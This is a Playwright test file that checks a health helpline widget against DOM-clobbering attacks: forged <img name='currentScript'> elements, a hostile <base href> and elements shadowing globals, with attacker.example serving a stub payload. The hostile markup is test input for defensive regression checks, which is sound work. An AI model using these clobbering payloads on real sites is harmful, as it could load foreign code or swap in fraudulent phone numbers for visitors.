import { expect, test, type Page } from '@playwright/test';
import { expectHelplineReachable, watchUncaught, watchWidgetConsole } from '../fixtures/page-guards';
import { openWidget } from './helpers';

/**
 * Markup a site's HTML sanitizer lets through (no script, only names and ids) must not steer the
 * widget: named elements shadow document.currentScript, document.body and window.HelplineWidget
 * (HTML, "Named access on the Window object" and Document's named properties), so a forged
 * currentScript once made the loader import its conversation from another origin and dial
 * another number. Each page here has such markup before the widget's tag; the widget must load
 * only its own files, keep its number, and work.
 */

const ATTACKER = 'https://attacker.example';

/** Serves `body` as the page at `path`, and records every request for code or data to the attacker's origin (the forged image's own picture aside). */
async function hostilePage(page: Page, path: string, body: string, head = '') {
  const foreign: string[] = [];
  await page.route(`${ATTACKER}/**`, (route) => {
    if (route.request().resourceType() !== 'image') foreign.push(route.request().url());
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: 'window.__pwned = true; export const mount = () => { window.__pwned = true; };',
    });
  });
  await page.route(`**${path}`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><html lang="en"><head><title>Support</title>${head}</head><body><main><h1>Support</h1></main>${body}</body></html>`,
    }),
  );
  await page.goto(path);
  return foreign;
}

/** The visitor asks for a person: the number shown and dialled is the site's, nothing else. */
async function expectNumber(page: Page, number: RegExp, href: string) {
  const dialog = await openWidget(page);
  await dialog.getByRole('button', { name: 'Talk to a person' }).first().click();
  const link = dialog.getByRole('link', { name: number }).first();
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute('href', href);
  await expect(dialog).not.toContainText('1-900');
}

test('a forged currentScript image neither loads code from its address nor changes the number', async ({ page }) => {
  const uncaught = watchUncaught(page);
  const foreign = await hostilePage(
    page,
    '/clobber-script.html',
    `<img name="currentScript" src="${ATTACKER}/w/" data-phone="1-900-555-0100" alt="">
     <script src="/helpline-widget.js" defer></script>`,
  );
  await expectNumber(page, /1-800-227-2345/, 'tel:18002272345');
  expect(foreign).toEqual([]);
  expect(await page.evaluate(() => (window as { __pwned?: boolean }).__pwned)).toBeUndefined();
  expect(uncaught).toEqual([]);
});

test("the settings come from the widget's own tag even when a forged one is first", async ({ page }) => {
  const foreign = await hostilePage(
    page,
    '/clobber-settings.html',
    `<img name="currentScript" src="${ATTACKER}/w/" data-phone="1-900-555-0100" alt="">
     <script src="/helpline-widget.js" defer data-phone="1-888-555-0199"></script>`,
  );
  await expectNumber(page, /1-888-555-0199/, 'tel:18885550199');
  expect(foreign).toEqual([]);
});

for (const [name, markup] of [
  ['an image named "body"', '<img name="body" alt="">'],
  ['an image named "defaultView"', '<img name="defaultView" alt="">'],
  ['a form with the id HelplineWidget and a "version" field', '<form id="HelplineWidget"><input name="version" value="1"></form>'],
] as const) {
  test(`${name} does not stop the widget`, async ({ page }) => {
    const uncaught = watchUncaught(page);
    await hostilePage(page, '/clobber-names.html', `${markup}<script src="/helpline-widget.js" defer></script>`);
    const dialog = await openWidget(page);
    await expect(dialog.getByRole('log')).toContainText('automated guide, not a doctor');
    await dialog.getByRole('button', { name: 'Talk to a person' }).first().click();
    await expectHelplineReachable(dialog);
    expect(uncaught).toEqual([]);
  });
}

test("loaded as a module under a <base href>: its own tag's settings, its own files", async ({ page, baseURL }) => {
  const requested: string[] = [];
  page.on('request', (request) => requested.push(new URL(request.url()).pathname));
  const foreign = await hostilePage(
    page,
    '/as-module.html',
    `<script type="module" src="${baseURL}/helpline-widget.js" data-phone="1-888-555-0199"></script>`,
    `<base href="${ATTACKER}/w/">`,
  );
  await expectNumber(page, /1-888-555-0199/, 'tel:18885550199');
  expect(foreign).toEqual([]);
  expect(requested).toContain('/helpline-app.js');
});

test('imported by a script, with no tag of its own: its own files, the default number, one warning', async ({ page, baseURL }) => {
  const lines = watchWidgetConsole(page);
  const foreign = await hostilePage(
    page,
    '/imported.html',
    `<script type="module">import('${baseURL}/helpline-widget.js');</script>`,
    `<base href="${ATTACKER}/w/">`,
  );
  await expectNumber(page, /1-800-227-2345/, 'tel:18002272345');
  expect(foreign).toEqual([]);
  expect(lines.map((l) => l.text)).toEqual([expect.stringMatching(/no <script> tag/)]);
});
